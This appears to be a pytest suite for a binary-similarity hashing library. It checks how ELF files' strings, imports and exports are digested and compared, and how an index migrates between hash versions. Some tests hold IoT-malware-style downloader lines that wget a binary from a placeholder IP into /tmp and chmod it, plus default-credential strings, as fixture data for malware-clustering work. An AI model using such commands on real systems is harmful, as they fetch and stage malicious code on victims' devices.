"""tx2, the companion value's second rule set: toolchain strings, rules, encoding, versions.

Expected values come from the shared corpora's labels (same program, other CPU) and from the
Debian toolchain archives the shipped data was derived from, never from tx2's own output.
"""

from __future__ import annotations

import hashlib
import json
import random
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import corpus
import numpy as np
import pytest

import telfhash_core as tc
from telfhash_core import companion as cx
from telfhash_core.companion import toolchain as tcd
from telfhash_core.companion import tx2

TX2_RE = re.compile(r"^tx2:(imports|exports|strings|calls):t1[0-9a-f]{70}$")


def _entry(path_part: str) -> dict:
    for f in corpus.files():
        if f["path"] == path_part:
            return f
    raise AssertionError(f"{path_part} not in the corpus manifest")


def _static(path_part: str) -> dict:
    for f in corpus.static_files():
        if f["path"] == path_part:
            return f
    raise AssertionError(f"{path_part} not in the static corpus manifest")


# ----------------------------------------------------------------------------- toolchain data


def test_suffix_keys_agree_with_whole_string_keys():
    strings = [b"hello world", b"abc", b"xhello world", b"nan", b"\x7f"]
    keys, starts, _ends = tcd.suffix_keys(strings)
    assert keys[starts].tolist() == tcd.string_keys(strings).tolist()
    assert int(keys[starts[2] + 1]) == tcd.string_key(b"hello world")
    assert len(set(tcd.string_keys([b"ab", b"ba", b"abc", b"abd"]).tolist())) == 4


def test_shipped_toolchain_data_names_its_evidence():
    data = tcd.shipped()
    assert len(data) > 20000
    for cpu in (
        "amd64",
        "i386",
        "armel",
        "armhf",
        "arm64",
        "mips",
        "mipsel",
        "mips64el",
        "powerpc",
        "ppc64el",
        "s390x",
        "sh4",
        "m68k",
        "sparc64",
        "riscv64",
    ):
        assert cpu in data.libcs, cpu
    assert any(n.startswith("musl-") for n in data.libcs)
    # glibc's own message, in the C library of every CPU
    ev = data.evidence(b"Fatal glibc error: malloc assertion failure in %s: %s\n") or data.evidence(b"GCONV_PATH")
    assert ev is not None and "libc.a" in ev["archives"] and len(ev["libcs"]) >= 14
    assert data.evidence(b"root:admin") is None


def test_toolchain_strings_come_out_of_a_static_program():
    """92-96% of a static glibc binary's strings are the C library's; what is left is the
    program's own (fam_a's four credential strings, from its source)."""
    src = (corpus.SHARED / "iot-src" / "fam_a.c").read_text()
    creds = set(re.findall(r'"([a-z]+:[a-z0-9]+)"', src))
    assert creds
    for arch in ("amd64", "sh4", "mips64el", "s390x"):
        buf = Path(_static(f"{arch}/iot-fam-a/fam_a_v1_static")["abspath"]).read_bytes()
        facts = cx.elf_facts(buf)
        raw = tx2.raw_strings(buf, facts)
        left = tx2.program_strings(raw, tcd.shipped())
        assert len(raw) > 900 and len(left) < 0.05 * len(raw), (arch, len(raw), len(left))
        assert creds <= {s.decode() for s in left}, arch


def _toolchain_of(strings: list[bytes]) -> tcd.ToolchainData:
    """Toolchain data holding exactly ``strings`` (one made-up C library)."""
    keys = tcd.string_keys(strings)
    ones = np.ones(keys.size, dtype=np.uint64)
    return tcd.ToolchainData(keys, ones, ones.astype(np.uint32), {"libcs": ["libc"], "kinds": ["libc.a"]})


LIBC = [f"C library message number {i}: something failed".encode() for i in range(40)]
PROGRAM = [f"usage: tool option {w} [file ...]".encode() for w in "abcdefghijklmnopqrst"]


def test_strings_after_the_c_library_begins_are_its_own():
    """A static link lays out the program's strings, then its C library's: a C library string
    that no derived toolchain has (another CPU's) sits among known ones and goes with them;
    the program's own strings, before that point, all stay."""
    leftovers = [b"set_thread_area failed when setting up thread-local storage\n", b"Too many processes"]
    seq = PROGRAM + LIBC[:10] + leftovers[:1] + LIBC[10:30] + leftovers[1:] + LIBC[30:]
    data = _toolchain_of(LIBC)
    assert tx2.program_strings(seq, data) == PROGRAM
    # unknown to the data, the leftovers would otherwise stay
    assert set(leftovers) <= set(tx2.program_strings(PROGRAM + LIBC + leftovers, None))


def test_a_c_library_half_unknown_is_still_found():
    """A C library that nothing in the data comes from still shares about half of its text
    (errno texts, paths) with the others: its other half goes too."""
    foreign = [f"Foreign C library text {i}, not in the data".encode() for i in range(40)]
    libc = [x for pair in zip(LIBC, foreign) for x in pair]
    assert tx2.program_strings(PROGRAM + libc, _toolchain_of(LIBC)) == PROGRAM


def test_a_program_laid_out_after_its_c_library_loses_nothing():
    """Sections sorted by alignment (busybox) put the C library's tables first: with many
    unknown strings after the first known run, nothing is cut."""
    many = [f"applet {i}: it did what was asked of it".encode() for i in range(tx2.MAX_LEFTOVERS + 1)]
    data = _toolchain_of(LIBC)
    assert tx2.program_strings(LIBC[:20] + many + LIBC[20:], data) == many
    # a program's own strings that the C library also has (month names) do not start the cut,
    # in the middle of its strings or before them
    months = [b"January", b"February", b"March", b"April", b"May", b"June", b"July", b"August"]
    data = _toolchain_of(LIBC + months)
    assert tx2.program_strings(PROGRAM[:3] + months[:4] + PROGRAM[3:] + LIBC, data) == PROGRAM
    assert tx2.program_strings(months + PROGRAM + LIBC, data) == PROGRAM


def test_bare_words_do_not_change_the_unit():
    """CPU feature names (arm64's falkor, thunderx2t99) are bare words: they go before the
    count that chooses words or whole strings, so a C library with more of them does not
    switch a program to the other unit."""
    strings = PROGRAM[:12]
    features = [b"falkor", b"thunderx2t99", b"kunpeng920", b"generic", b"emag", b"a64fx"]
    assert tx2.string_tokens(strings + features) == tx2.string_tokens(strings)
    assert tx2.string_tokens(strings) == tx2.words([s.decode() for s in strings])


def test_shell_commands_are_program_strings():
    """``&&`` and ``||`` are in a downloader's shell command as much as in an assertion:
    only ``->``, ``==`` and ``!=`` mark the C library's assertion expressions."""
    cmd = b"cd /tmp && wget http://198.51.100.7/bins/mips -O .x || busybox wget http://198.51.100.7/x"
    assertion = b"l->l_relocated || l->l_type == lt_executable"
    assert tx2.program_strings([cmd, assertion], _toolchain_of(LIBC)) == [cmd]


# ----------------------------------------------------------------------------- rules


def test_value_shape_and_rule_through_the_api():
    cases = {
        "amd64/coreutils/bin__ls": "imports",
        "mipsel/klibc-utils/usr__lib__klibc__bin__cpio": "strings",
        "amd64/klibc-utils/usr__lib__klibc__bin__true": "calls",
    }
    for path, rule in cases.items():
        r = tc.hash_file(_entry(path)["abspath"], fields=["telfhash_x"])
        v = r.extra["telfhash_x"]
        assert TX2_RE.match(v) and cx.parse(v)[:2] == ("tx2", rule), (path, v)
    lib = next(f for f in corpus.files() if f["path"].endswith(".so") and f["arch"] == "amd64")
    assert cx.parse(tc.hash_file(lib["abspath"], fields=["telfhash_x"]).extra["telfhash_x"])[1] == "exports"


def test_every_elf_with_code_or_strings_gets_a_value():
    for f in corpus.files():
        if "klibc__bin__" in f["path"] and f["path"].rsplit("__", 1)[1] in ("true", "false", "sync"):
            assert TX2_RE.match(cx.telfhash_x_of(Path(f["abspath"]).read_bytes()) or ""), f["path"]


def test_mips_undefined_func_imports_read_like_notype_elsewhere():
    """MIPS lists a plug-in's host functions as undefined STT_FUNC (with a stub address),
    other CPUs as STT_NOTYPE: tx2 reads the same import set on both."""
    from elftools.elf.elffile import ELFFile

    pairs = 0
    for f in corpus.files():
        if f["arch"] != "mipsel" or not f["path"].endswith(".so") or "iproute2" not in f["path"]:
            continue
        other = f["path"].replace("mipsel/", "amd64/", 1).replace("mipsel-linux-gnu", "x86_64-linux-gnu")
        try:
            amd = _entry(other)
        except AssertionError:
            continue
        sets = []
        for p in (f["abspath"], amd["abspath"]):
            with open(p, "rb") as fh:  # pyelftools' view: undefined, global/weak, FUNC or NOTYPE
                dynsym = ELFFile(fh).get_section_by_name(".dynsym")
                want = {
                    s.name
                    for s in dynsym.iter_symbols()
                    if s["st_shndx"] == "SHN_UNDEF"
                    and s["st_info"]["bind"] in ("STB_GLOBAL", "STB_WEAK")
                    and s["st_info"]["type"] in ("STT_FUNC", "STT_NOTYPE", "STT_GNU_IFUNC")
                    and s.name
                }
            buf = Path(p).read_bytes()
            facts = cx.elf_facts(buf)
            got = set(tx2.read_symbols(buf, facts.header, tx2.symbol_table(facts)).imported)
            assert got == want
            sets.append({n for n in tx2.normalise_names(got, tx2.shipped())})
        pairs += 1
        assert len(sets[0] ^ sets[1]) <= 0.1 * len(sets[0] | sets[1]), (f["path"], sets[0] ^ sets[1])
    assert pairs >= 2


def test_small_programs_hash_words_with_cpu_names_and_triplets_normalised():
    a = [b"/bin/busybox wget http://198.51.100.7/bins/mipsel -O /tmp/.x", b"GET /%s HTTP/1.0", b"chmod 777 /tmp/.x"]
    b = [x.replace(b"mipsel", b"x86_64") for x in a]
    c = [x.replace(b"mipsel", b"arm-linux-gnueabihf") for x in a]
    ta, tb, tc_ = (tx2.string_tokens(x) for x in (a, b, c))
    assert ta == tb and "cpu" in ta and "wget" in ta  # few strings: their words
    assert "triplet" in tc_ and set(tc_) - {"triplet"} == set(ta) - {"cpu"}
    assert tx2.normalise_string("/usr/lib/sh4-linux-gnu/gconv") == "/usr/lib/<triplet>/gconv"


def test_one_name_out_of_twenty_or_more_costs_little():
    """Measured against the text encoding tx1 uses: removing one of 20-60 names."""
    rng = random.Random(11)
    words = [
        f"{rng.choice(['get', 'set', 'read', 'write', 'open', 'sock', 'str', 'mem'])}{rng.choice(['name', 'opt', 'line', 'buf', 'cpy', 'len', 'at', 'ctl'])}{k}"
        for k in range(400)
    ]
    cost_tx2, cost_text = [], []
    for _ in range(60):
        s = rng.sample(words, rng.randint(20, 60))
        t = list(s)
        t.remove(rng.choice(t))
        cost_tx2.append(tc.distance(tx2.digest_tokens(s), tx2.digest_tokens(t)))
        a, b = cx.digest_tokens(s), cx.digest_tokens(t)
        cost_text.append(tc.distance(a, b))
    cost_tx2.sort()
    cost_text.sort()
    assert cost_tx2[len(cost_tx2) // 2] <= 30 and cost_tx2[-1] <= 50, cost_tx2
    assert sum(c > 50 for c in cost_text) >= 10 and cost_text[-1] > 2 * cost_tx2[-1], cost_text


# ----------------------------------------------------------------------------- versions downstream


def _tx1_and_tx2(path: str) -> tuple[str, str]:
    buf = Path(path).read_bytes()
    v1, v2 = cx.tx1_of(buf), cx.telfhash_x_of(buf)
    assert v1 and v2
    return v1, v2


def test_tx1_values_still_read_and_compare_only_with_tx1():
    f = _entry("amd64/coreutils/bin__ls")
    g = _entry("arm64/coreutils/bin__ls")
    a1, a2 = _tx1_and_tx2(f["abspath"])
    b1, b2 = _tx1_and_tx2(g["abspath"])
    assert cx.parse(a1) == ("tx1", None, a1[4:]) and cx.version_of(a2) == "tx2"
    assert cx.distance(a1, b1) == tc.distance(a1[4:], b1[4:])
    assert cx.distance(a2, b2) == tc.distance(cx.split(a2)[1], cx.split(b2)[1])
    assert cx.distance(a1, b2) is None and cx.distance(a2, b1) is None and cx.distance(a2, "t1" + "0" * 70) is None
    with pytest.raises(ValueError):
        cx.telfhash_x_of(b"", version="tx9")


def test_cluster_never_groups_tx1_with_tx2():
    from telfhash_core.similarity.cluster import cluster

    f = _entry("amd64/coreutils/bin__ls")
    _v1, v2 = _tx1_and_tx2(f["abspath"])
    same_digest_other_version = "tx1:" + cx.split(v2)[1]  # identical digests, different rule sets
    rows = [
        {"file": "a", "telfhash_x": v2},
        {"file": "b", "telfhash_x": same_digest_other_version},
        {"file": "c", "telfhash_x": v2},
    ]
    clusters, bad = cluster(rows, 50, key="telfhash_x")
    assert not bad
    assert sorted(sorted(c.members) for c in clusters) == [["a", "c"], ["b"]]


def test_index_searches_one_rule_set_and_recomputes_tx1_as_tx2(tmp_path):
    from telfhash_core.store.index import Index

    paths = [
        _entry(p)["abspath"] for p in ("amd64/coreutils/bin__ls", "arm64/coreutils/bin__ls", "i386/coreutils/bin__ls")
    ]
    gone = tmp_path / "gone"
    gone.write_bytes(Path(paths[2]).read_bytes())
    rows = []
    for p in paths[:2] + [str(gone)]:
        data = Path(p).read_bytes()
        rows.append(
            {"file": p, "sha256": hashlib.sha256(data).hexdigest(), "telfhash": None, "telfhash_x": cx.tx1_of(data)}
        )
    db = tmp_path / "ix.sqlite"
    with Index(db) as ix:
        ix.add_results(rows)
        gone.unlink()
        q1 = rows[0]["telfhash_x"]
        assert {m.sha256 for m in ix.search(q1, 100, key="telfhash_x")} == {r["sha256"] for r in rows}
        # a tx2 query never meets the stored tx1 values, even at the largest distance
        assert ix.search(cx.telfhash_x_of(Path(paths[0]).read_bytes()), 1000, key="telfhash_x") == []
        counts = ix.recompute_x()
        assert counts == {"old": 3, "recomputed": 2, "no_value": 0, "missing": 1, "changed": 0}
        stored = {e["sha256"]: e["telfhash_x"] for e in ix.entries()}
        assert cx.version_of(stored[rows[0]["sha256"]]) == "tx2" and stored[rows[2]["sha256"]] == rows[2]["telfhash_x"]
        hits = ix.search(paths[0], 50, key="telfhash_x")  # a file query: hashed with tx2
        assert {m.sha256 for m in hits} == {rows[0]["sha256"], rows[1]["sha256"]}
        assert {m.sha256 for m in ix.search(q1, 1000, key="telfhash_x")} == {rows[2]["sha256"]}
        groups = ix.clusters(1000, key="telfhash_x", min_size=1)
        assert sorted(g["size"] for g in groups) == [1, 2]
    out = subprocess.run(
        check=False,
        args=[sys.executable, "-m", "telfhash_core.cli", "index", "--db", str(db), "recompute-x", "-f", "json"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout) == {"old": 1, "recomputed": 0, "no_value": 0, "missing": 1, "changed": 0}
    with sqlite3.connect(db) as c:
        assert c.execute("SELECT count(*) FROM entries WHERE telfhash_x LIKE 'tx2:%'").fetchone()[0] == 2
        # a tx2 value from older tx2 rules (here: another file's) is redone only with --all
        c.execute(
            "UPDATE entries SET telfhash_x = ? WHERE sha256 = ?",
            (rows[2]["telfhash_x"].replace("tx1:", "tx2:strings:"), rows[0]["sha256"]),
        )
    with Index(db) as ix:
        assert ix.recompute_x()["old"] == 1  # only the tx1 row whose file is gone
        counts = ix.recompute_x(all_rows=True)
        assert counts == {"old": 3, "recomputed": 2, "no_value": 0, "missing": 1, "changed": 0}
        stored = {e["sha256"]: e["telfhash_x"] for e in ix.entries()}
        assert stored[rows[0]["sha256"]] == cx.telfhash_x_of(Path(paths[0]).read_bytes())


def test_hostile_strings_are_bounded():
    """A file whose read-only data is one huge printable run, or millions of tiny strings."""
    base = bytearray(Path(_entry("armel/coreutils/bin__ls")["abspath"]).read_bytes())
    facts = cx.elf_facts(bytes(base))
    ro = next(s for s in facts.sections if s.name == ".rodata")
    for fill in (b"A", b"ab\x00"):
        data = bytearray(base)
        data[ro.offset : ro.offset + ro.size] = (fill * (ro.size // len(fill) + 1))[: ro.size]
        v = cx.telfhash_x_of(bytes(data))
        assert v is None or TX2_RE.match(v)


def test_shipped_helper_list_is_what_the_corpus_gives():
    items = []
    for f in corpus.files():
        buf = Path(f["abspath"]).read_bytes()
        try:
            m = tx2.Material(buf)
        except Exception:  # noqa: BLE001 (a file tx2 cannot read says nothing here)
            continue
        if m.raw_names is not None:
            items.append((f["label"], f["arch"], m.raw_names))
    derived = tx2.derive(items)
    shipped = json.loads(tx2.HELPERS_FILE.read_text())
    assert (derived["names"], derived["prefixes"]) == (shipped["names"], shipped["prefixes"])
    assert "itm_registertmclonetable" in derived["names"] and "aeabi_" in derived["prefixes"]
